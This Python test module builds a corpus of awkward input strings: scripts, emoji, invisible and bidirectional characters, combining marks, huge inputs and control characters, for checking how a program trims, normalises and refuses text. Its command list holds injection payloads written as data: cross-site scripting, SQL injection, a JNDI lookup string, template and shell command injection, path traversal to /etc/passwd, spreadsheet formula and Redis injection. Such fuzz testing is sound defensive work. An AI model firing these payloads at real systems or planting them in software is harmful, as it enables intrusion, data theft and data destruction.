"""Texts that break programs which count, cut, compose, escape or draw them wrongly."""

import unicodedata
from itertools import product

from tests.attacks.corpora.ids import CONTROLS

# What is trimmed: white space, but none of the controls that are refused.
_BLANKS = tuple(
    char
    for char in map(chr, range(0x10000))
    if unicodedata.category(char) in ("Zs", "Zl", "Zp") or char in "\t\n\r"
)
TRIMMED = "".join(_BLANKS)
KEPT_CONTROLS = "\n\t"

_SCRIPTS = (
    *("Hello", "Grüße", "Žluťoučký kůň", "Đặng Thị Hương", "İstanbul ılık", "Straße", "ŉ ǅ ﬁ ﬄ"),
    *("Привет", "Ёлка", "Γειά σου Κόσμε", "ἄριστος", "Բարեւ", "გამარჯობა", "ᲒᲐᲛᲐᲠᲯᲝᲑᲐ"),
    *("שלום עולם",),
    *("שָׁלוֹם", "مرحبا بالعالم", "السَّلَامُ", "می\u200cخواهم", "ہیلو", "ܫܠܡܐ", "ߒߞߏ"),
    *("नमस्ते दुनिया", "क्षत्रिय"),
    *("ক্ষমা", "ਸਤ ਸ੍ਰੀ", "નમસ્તે", "வணக்கம்", "స్వాగతం", "ಕನ್ನಡ", "സ്വാഗതം", "ආයුබෝවන්", "สวัสดีชาวโลก", "ສະບາຍດີ"),
    *("བཀྲ་ཤིས་བདེ་ལེགས།", "မင်္ဂလာပါ", "សួស្តី", "한국어", "\u1112\u1161\u11ab\u1100\u1173\u11af"),
    *("ㅎㅏㄴ", "日本語"),
    *(
        "ガギグ",
        "カ\u3099キ\u3099",
        "ｶﾞｷﾞ",
        "繁體 简体",
        "骨\U000e0100直",
        "𠮷野家",
        "𪚥𪚥",
        "አማርኛ",
        "ᏣᎳᎩ",
    ),
    *("ᐃᓄᒃᑎᑐᑦ",),
    *("ᚠᛇᚻ", "ᠮᠣᠩᠭᠣᠯ", "ⵜⵉⴼⵉⵏⴰⵖ", "𓀀𓂀", "𒀀𒁀", "𐌰𐌱", "𝔘𝔫𝔦𝔠𝔬𝔡𝔢", "𝒜𝓁𝓁", "Ⓐⓑ", "ｆｕｌｌ", "⠓⠑⠇⠇⠕"),
)
_EMOJI = (
    *(
        "😀",
        "❤️",
        "❤︎",
        "👍🏽",
        "👩‍👩‍👧‍👦",
        "👩🏾‍🚀",
        "🏳️‍🌈",
        "🏴‍☠️",
        "🧑🏻‍❤️‍💋‍🧑🏿",
        "🇩🇪🇯🇵",
        "🇩🇪🇯",
        "🇩",
    ),
    *("1️⃣#️⃣",),
    *("🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f", "🫠🫱🏻‍🫲🏿", "\U0001fae9"),
    *(
        "👨‍👩‍👦" * 100,
        "🇺🇦" * 500,
        "👍\u200d",
        "\u200d👍",
        "🏽",
        "😀\ufe0e\ufe0f",
        "☎☎️",
        "🅰️🆎",
        "㊗️",
    ),
    *("‼️",),
)
_INVISIBLE = (
    *("\u202eevil.exe", "\u202dleft\u202c", "\u2067right\u2069 left", "\u200fעברית\u200f"),
    *("a\u061cb",),
    *("\u2066" * 200 + "x", "\u202a" * 100, "zero\u200bwidth", "zero\u200cwidth", "zero\u200djoin"),
    *("word\u2060joiner", "soft\u00adhyphen", "\ufeffbom", "bom\ufeff", "\u180emongol", "x\u034fy"),
    *("\u115f\u1160", "\u3164", "\uffa0", "\u2800", "a\u2028b", "a\u2029b", "a\u00a0b"),
    *("\u3000x\u3000",),
    *("\U000e0001tag", "\U000e0041\U000e007f", "\ufff9a\ufffab\ufffb", "\ufffc", "\ufffd"),
    *("\ufffe",),
    *("\uffff", "\U0001fffe", "\U0010ffff", "\ufdd0", "\ue000", "\U000f0000", "\u0378", "\u2065"),
    *("a\u200b" * 1_000, "\u200b" * 100 + "x", "\u2061\u2062\u2063\u2064", "\u206a\u206f"),
    *("\u17b4",),
)
_MARKS = (
    *("e\u0301", "\u0301e", "\u0301", "a" + "\u0300" * 1_000, "Z̷̢͍̈́a̵͍̾l̸̰̈́g̶̙͝o̵̫͆"),
    *("q\u0323\u0307", "q\u0307\u0323"),
    *("\u212b \u2126 \u212a", "\u1e9b\u0323", "\u0344", "\u0f73\u0f75", "\u0958", "\ufb1d"),
    *("\U0001d15e",),
    *("\u0340\u0341\u0343", "\u037e", "\u1fef", "\u2000\u2001x", "\u2329\u232a", "\uf900\ufa10"),
    *("\u1f82",),
    *("a" + "\u0301\u0316" * 900, "\u0f71\u0f72\u0f74" * 300, "a\u20dd\u20e0", "x\u0489"),
    *("\u05b0\u0591א",),
    *("\u1100" * 90 + "\u1161", "\u1100\u1161\u11a8" * 600, "ཧཱུྃ", "ก็็็็็็็็็็็็็", "ﷺ ﷽", "͡° ͜ʖ ͡°"),
)
_COMMANDS = (
    *("<b>bold</b>", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=a>"),
    *("</textarea><script>x</script>", "<!--", "]]>", "<![CDATA[x]]>", "&lt;&amp;&#0;&#x27;"),
    *("&nbsp;",),
    *("javascript:alert(1)", "[x](javascript:alert(1))", "[x](data:text/html,y)"),
    *("![x](//e.example)",),
    *("**bold** _it_ `code`", "```\ncode\n```", "https://x.example/?q=<a>&b='c'"),
    *("mailto:a@b.example",),
    *("http://[::1]/", "http://a:b@c.example", "@everyone", "<@U123>", "/me waves", "/giphy"),
    *(":smile:",),
    *("'; DROP TABLE messages; --", "' OR 1=1 --", '" OR ""="', "1; SELECT pg_sleep(9)"),
    *("{$gt: ''}",),
    *("${7*7} {{7*7}} #{7*7} <%= 7 %>", "${jndi:ldap://x.example/a}", "%s%n%x %d", "{0} {name}"),
    *("%00%0a",),
    *("\\", "\\\\", "\\n", "\\u0041", "\\x00", '"', '\\"', "'", "`", "\\ud83d", '{"a": 1}'),
    *('","b":"c',),
    *("$(id) `id` ; id | id && id", "../../../etc/passwd", "C:\\con\\con", "file:///x", "=1+1"),
    *("@SUM(A1)",),
    *("+cmd|' /C calc'!A0", "null", "undefined", "NaN", "true", "0", "-0", "1e999"),
    *("[object Object]", "''"),
    *("FLUSHALL\nSET a b", "*1\n$8\nFLUSHALL", 'EVAL "return 1" 0', "Content-Length: 0\n\nx"),
    *("\n\n.\n",),
    *("level=ERROR msg=x", '"}\n{"level":"ERROR"', "a\nb", "a\tb", "a\n\n\nb", "\ta", "x\n"),
    *("x \n y", "   x  "),
)
_SHAPES = (
    *("x" * 4_000, "😀" * 4_000, "語" * 4_000, '"' * 4_000, "\\" * 4_000, "é" * 4_000, "x" * 4_001),
    *("e\u0301" * 4_000, "e\u0301" * 4_001, " " * 5_000 + "x", "x" + "\n" * 5_000, "a\n" * 2_000),
    *("<" * 4_000,),
    *("(" * 2_000, "[" * 1_000 + "](" * 1_000, "*" * 4_000, "_" * 3_999, "`" * 3_999),
    *("> " * 1_999 + "x",),
    *("https://" + "a" * 3_000, "www." * 900, "a@" * 1_900, "&" * 3_999, "/" * 3_999),
    *("http:" * 799,),
)
_EDGES = tuple(f"{blank}{word}{blank}" for blank, word in product(_BLANKS, ("x", "x\u0301")))
_REFUSED = (
    *(f"a{control}b" for control in CONTROLS if control not in KEPT_CONTROLS),
    *(f"{control}x" for control in CONTROLS if control not in TRIMMED),
    *("x\x00", "\x00", "\x1b[31mred\x1b[0m", "\x9b31m", "a\r\nb", "a\rb", "\x7f", "\x85x", "x\x1c"),
)
_EMPTY = ("", " ", "\n", "\t \n", "\u3000", "\u2028", "\r", "\r\n", "\u00a0" * 50)

TEXTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(*_SCRIPTS, *_EMOJI, *_INVISIBLE, *_MARKS, *_COMMANDS, *_SHAPES),
            *(*_EDGES, *_REFUSED, *_EMPTY),
        )
    )
)


def expected(text: str) -> str:
    """Return a text as it is to be stored: trimmed, NFC."""
    return unicodedata.normalize("NFC", text.strip(TRIMMED))


def has_refused_control(text: str) -> bool:
    """Tell whether SPEC §6 refuses the text for a control character, once it is trimmed."""
    kept = (char for char in expected(text) if char not in KEPT_CONTROLS)
    return any(unicodedata.category(char) in ("Cc", "Cs") for char in kept)
